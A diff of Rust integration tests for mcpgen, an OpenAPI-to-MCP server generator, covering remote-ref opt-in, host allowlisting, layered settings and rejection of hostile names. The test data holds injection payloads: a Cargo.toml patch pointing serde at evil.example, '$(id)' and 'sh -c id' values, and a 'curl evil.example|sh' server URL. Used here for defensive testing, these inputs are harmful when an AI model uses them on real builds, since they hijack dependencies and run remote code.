@@ -608,7 +608,17 @@ fn remote_refs_need_the_flag_and_are_fetched_once_with_it() {
     assert!(requests.lock().unwrap().is_empty());
     assert!(!out.exists());
 
-    let fetched = run(&["--allow-remote-refs"]);
+    // A loopback host is refused even with the opt-in, unless named as allowed.
+    let internal = run(&["--allow-remote-refs"]);
+    assert_eq!(internal.status.code(), Some(2), "{}", stderr(&internal));
+    assert!(
+        stderr(&internal).contains("--allow-remote-host"),
+        "{}",
+        stderr(&internal)
+    );
+    assert!(requests.lock().unwrap().is_empty());
+
+    let fetched = run(&["--allow-remote-refs", "--allow-remote-host", "127.0.0.1"]);
     assert!(fetched.status.success(), "{}", stderr(&fetched));
     let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
     assert!(tools.contains("fetchedName"), "{tools}");
@@ -617,14 +627,321 @@ fn remote_refs_need_the_flag_and_are_fetched_once_with_it() {
     seen.sort();
     assert_eq!(seen, ["/schemas/common.yaml", "/schemas/pet.yaml"]);
 
-    // The same through mcpgen.toml.
-    std::fs::write(dir.join("mcpgen.toml"), "allow_remote_refs = true\n").unwrap();
-    let inspected = bin()
-        .args(["mcpgen", "inspect"])
+    // A mcpgen.toml can ship beside a third-party document: it may not turn fetching on.
+    let inspect = |dir: &std::path::Path| {
+        bin()
+            .current_dir(dir)
+            .args(["mcpgen", "inspect"])
+            .arg(&spec)
+            .env("NO_PROXY", "127.0.0.1")
+            .env("no_proxy", "127.0.0.1")
+            .output()
+            .unwrap()
+    };
+    std::fs::write(
+        dir.join("mcpgen.toml"),
+        "allow_remote_refs = true\nallow_remote_hosts = [\"127.0.0.1\"]\n",
+    )
+    .unwrap();
+    let refused = inspect(&dir);
+    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
+    assert!(
+        stderr(&refused).contains("mcpgen.toml:2: /allow_remote_hosts")
+            && stderr(&refused).contains("`allow_remote_hosts` is not read from mcpgen.toml"),
+        "{}",
+        stderr(&refused)
+    );
+    // Turning it off there is harmless, and the user's own manifest may turn it on.
+    std::fs::write(dir.join("mcpgen.toml"), "allow_remote_refs = false\n").unwrap();
+    assert_eq!(inspect(&dir).status.code(), Some(2));
+    std::fs::remove_file(dir.join("mcpgen.toml")).unwrap();
+    let project = dir.join("project");
+    std::fs::create_dir_all(&project).unwrap();
+    std::fs::write(
+        project.join("Cargo.toml"),
+        "[package]\nname = \"p\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\nallow_remote_refs = true\nallow_remote_hosts = [\"127.0.0.1\"]\n",
+    )
+    .unwrap();
+    let inspected = inspect(&project);
+    assert!(inspected.status.success(), "{}", stderr(&inspected));
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// Every setting a layer can hold, set one way by the lower layers and the other way by the
+/// layer above: the top layer decides, whichever way it goes.
+#[test]
+fn each_layer_can_set_every_setting_either_way() {
+    let dir = temp_dir("layers");
+    let project = dir.join("project");
+    std::fs::create_dir_all(project.join("api")).unwrap();
+    let spec = project.join("api/openapi.yaml");
+    std::fs::copy(example_spec(), &spec).unwrap();
+    let read = |out: &std::path::Path| -> Vec<(String, String)> {
+        ["Cargo.toml", "src/tools.rs", "src/main.rs", "README.md"]
+            .iter()
+            .map(|f| {
+                let text = std::fs::read_to_string(out.join(f)).unwrap_or_default();
+                (f.to_string(), text)
+            })
+            .collect()
+    };
+    let generate = |out: &std::path::Path, extra: &[&str]| {
+        let output = bin()
+            .current_dir(&project)
+            .arg("generate")
+            .arg(&spec)
+            .arg("--out")
+            .arg(out)
+            .args(extra)
+            .output()
+            .unwrap();
+        assert!(output.status.success(), "{extra:?}: {}", stderr(&output));
+        read(out)
+    };
+    let defaults = generate(&dir.join("defaults"), &[]);
+    let non_default = "inline_refs = true\nno_output_schemas = true\nskip_broken = true\n\
+                       mode = \"search\"\nembed_openapi = false\nmax_description_chars = 5\n\
+                       release_profile = false\n";
+    let default_values = "inline_refs = false\nno_output_schemas = false\nskip_broken = false\n\
+                          mode = \"tools\"\nembed_openapi = true\nmax_description_chars = 0\n\
+                          release_profile = true\n";
+    let manifest = |table: &str| {
+        std::fs::write(
+            project.join("Cargo.toml"),
+            format!(
+                "[package]\nname = \"p\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n{table}"
+            ),
+        )
+        .unwrap();
+    };
+
+    // Each layer alone moves every value off its default.
+    manifest(non_default);
+    let from_manifest = generate(&dir.join("manifest"), &[]);
+    assert_ne!(from_manifest, defaults);
+    let tools = &from_manifest[1].1;
+    assert!(tools.contains("ServeMode::Search") && tools.contains("openapi: None"));
+    assert!(!from_manifest[0].1.contains("[profile.release]"));
+
+    // mcpgen.toml puts every value back, over the manifest.
+    std::fs::write(project.join("api/mcpgen.toml"), default_values).unwrap();
+    assert_eq!(generate(&dir.join("file"), &[]), defaults);
+
+    // Flags move every value off again, over mcpgen.toml ...
+    let on_flags = [
+        "--inline-refs",
+        "--no-output-schemas",
+        "--skip-broken",
+        "--mode",
+        "search",
+        "--no-openapi-resource",
+        "--max-description-chars",
+        "5",
+        "--no-release-profile",
+    ];
+    assert_eq!(generate(&dir.join("flags-on"), &on_flags), from_manifest);
+
+    // ... and put them back over a mcpgen.toml that moved them.
+    std::fs::write(project.join("api/mcpgen.toml"), non_default).unwrap();
+    let off_flags = [
+        "--inline-refs=false",
+        "--no-output-schemas=false",
+        "--skip-broken=false",
+        "--mode",
+        "tools",
+        "--no-openapi-resource=false",
+        "--max-description-chars",
+        "0",
+        "--no-release-profile=false",
+    ];
+    assert_eq!(generate(&dir.join("flags-off"), &off_flags), defaults);
+
+    // `skip_broken` shows on a document with a broken operation: a file turns it on, the
+    // flag turns it off again.
+    std::fs::write(
+        &spec,
+        "openapi: 3.0.3\ninfo: {title: Broken, version: '1'}\npaths:\n  /a:\n    get:\n      \
+         responses:\n        '200':\n          description: ok\n          content:\n            \
+         application/json:\n              schema: {$ref: '#/components/schemas/Missing'}\n  \
+         /b:\n    get:\n      responses: {'204': {description: ok}}\n",
+    )
+    .unwrap();
+    std::fs::write(project.join("api/mcpgen.toml"), "skip_broken = true\n").unwrap();
+    generate(&dir.join("skipped"), &[]);
+    let refused = bin()
+        .current_dir(&project)
+        .arg("generate")
         .arg(&spec)
-        .env("NO_PROXY", "127.0.0.1")
-        .env("no_proxy", "127.0.0.1")
+        .args(["--skip-broken=false", "--out"])
+        .arg(dir.join("refused"))
         .output()
         .unwrap();
-    assert!(inspected.status.success(), "{}", stderr(&inspected));
+    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
+    assert!(
+        stderr(&refused).contains("points to nothing"),
+        "{}",
+        stderr(&refused)
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// Names and versions that cannot be written into `Cargo.toml` as they are are refused
+/// wherever they come from (a flag, `mcpgen.toml`, `[package.metadata.mcpgen]`), with an error
+/// that names the setting, and nothing is written.
+#[test]
+fn hostile_names_are_refused_from_every_settings_source() {
+    let dir = temp_dir("hostile-names");
+    std::fs::create_dir_all(dir.join("api")).unwrap();
+    let spec = dir.join("api/openapi.yaml");
+    std::fs::copy(example_spec(), &spec).unwrap();
+    let out = dir.join("out");
+    let injected = "x\"\n[patch.crates-io]\nserde = { git = \"https://evil.example/serde\" }";
+    let generate = |extra: &[&str]| {
+        let output = bin()
+            .current_dir(dir.join("api"))
+            .arg("generate")
+            .arg(&spec)
+            .arg("--out")
+            .arg(&out)
+            .args(extra)
+            .output()
+            .unwrap();
+        assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+        assert!(!out.exists(), "nothing is written");
+        stderr(&output)
+    };
+    let refused = |err: &str, setting: &str, what: &str| {
+        assert!(
+            err.contains(&format!("{setting}: ")) && err.contains(what),
+            "{err}"
+        );
+        assert!(!err.contains("\n[patch"), "the value is quoted: {err}");
+    };
+
+    refused(
+        &generate(&["--name", injected]),
+        "crate_name",
+        "not a valid crate name",
+    );
+    refused(&generate(&["--name", "self"]), "crate_name", "reserved");
+    refused(
+        &generate(&["--crate-version", "1.0.0\"\n[patch.crates-io]"]),
+        "crate_version",
+        "not a semantic version",
+    );
+    refused(
+        &generate(&["--env-prefix", "X=1 sh -c id;"]),
+        "env_prefix",
+        "not a valid environment variable prefix",
+    );
+
+    let toml_string = |s: &str| serde_json::Value::String(s.to_owned()).to_string();
+    std::fs::write(
+        dir.join("api/mcpgen.toml"),
+        format!("crate_name = {}\n", toml_string(injected)),
+    )
+    .unwrap();
+    refused(&generate(&[]), "crate_name", "not a valid crate name");
+    std::fs::write(
+        dir.join("api/mcpgen.toml"),
+        "crate_version = \"1.0\"\nenv_prefix = \"PETS\"\n",
+    )
+    .unwrap();
+    refused(&generate(&[]), "crate_version", "not a semantic version");
+    std::fs::remove_file(dir.join("api/mcpgen.toml")).unwrap();
+
+    std::fs::write(
+        dir.join("Cargo.toml"),
+        format!(
+            "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n\
+             crate_name = {}\n",
+            toml_string(injected)
+        ),
+    )
+    .unwrap();
+    refused(&generate(&[]), "crate_name", "not a valid crate name");
+    std::fs::write(
+        dir.join("Cargo.toml"),
+        "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n\
+         env_prefix = \"pets\\n[patch]\"\n",
+    )
+    .unwrap();
+    refused(
+        &generate(&[]),
+        "env_prefix",
+        "not a valid environment variable prefix",
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// A document's file name and server URL reach the generated files as text: the file name in
+/// comments, the URL single-quoted in the README's shell commands.
+#[test]
+fn hostile_file_names_and_server_urls_stay_inert() {
+    let dir = temp_dir("hostile-files");
+    std::fs::create_dir_all(&dir).unwrap();
+    // A file name may hold anything but `/` and NUL.
+    let name = "pets\"\n[patch.crates-io]\nserde = { git = \"evil.example:serde\" }\n`$(id)`.yaml";
+    let spec = dir.join(name);
+    let text = std::fs::read_to_string(example_spec()).unwrap().replace(
+        "http://127.0.0.1:8080/v1",
+        "https://x.example/v1; curl evil.example|sh",
+    );
+    assert!(
+        text.contains("curl evil.example"),
+        "the example has a server URL"
+    );
+    std::fs::write(&spec, text).unwrap();
+    let out = dir.join("out");
+    let output = bin()
+        .arg("generate")
+        .arg(&spec)
+        .args(["--name", "pets-mcp", "--out"])
+        .arg(&out)
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{}", stderr(&output));
+
+    let manifest = std::fs::read_to_string(out.join("Cargo.toml")).unwrap();
+    let tables: Vec<&str> = manifest.lines().filter(|l| l.starts_with('[')).collect();
+    assert_eq!(
+        tables,
+        [
+            "[package]",
+            "[[bin]]",
+            "[dependencies]",
+            "[profile.release]"
+        ],
+        "{manifest}"
+    );
+    // The file name is in the header comment, and nowhere else.
+    let mentions: Vec<&str> = manifest.lines().filter(|l| l.contains("evil")).collect();
+    assert_eq!(mentions.len(), 1, "{manifest}");
+    assert!(
+        mentions[0].starts_with("# @generated by mcpgen "),
+        "{manifest}"
+    );
+    for file in ["src/main.rs", "src/tools.rs"] {
+        let source = std::fs::read_to_string(out.join(file)).unwrap();
+        let header: Vec<&str> = source.lines().take(3).collect();
+        assert!(
+            header[0].starts_with("//! @generated by mcpgen ")
+                && header[0].contains("[patch.crates-io] serde = { git = ")
+                && header[1] == "//! Regenerate rather than edit."
+                && header[2].is_empty(),
+            "{file}: {header:?}"
+        );
+    }
+    let readme = std::fs::read_to_string(out.join("README.md")).unwrap();
+    assert!(
+        readme.contains(
+            "cargo run --release -- --base-url 'https://x.example/v1; curl evil.example|sh'\n"
+        ),
+        "{readme}"
+    );
+    assert!(
+        readme.contains("generated from ``pets\" [patch.crates-io] serde = { git = \"evil.example:serde\" } `$(id)`.yaml`` by mcpgen"),
+        "{readme}"
+    );
+    let _ = std::fs::remove_dir_all(&dir);
 }
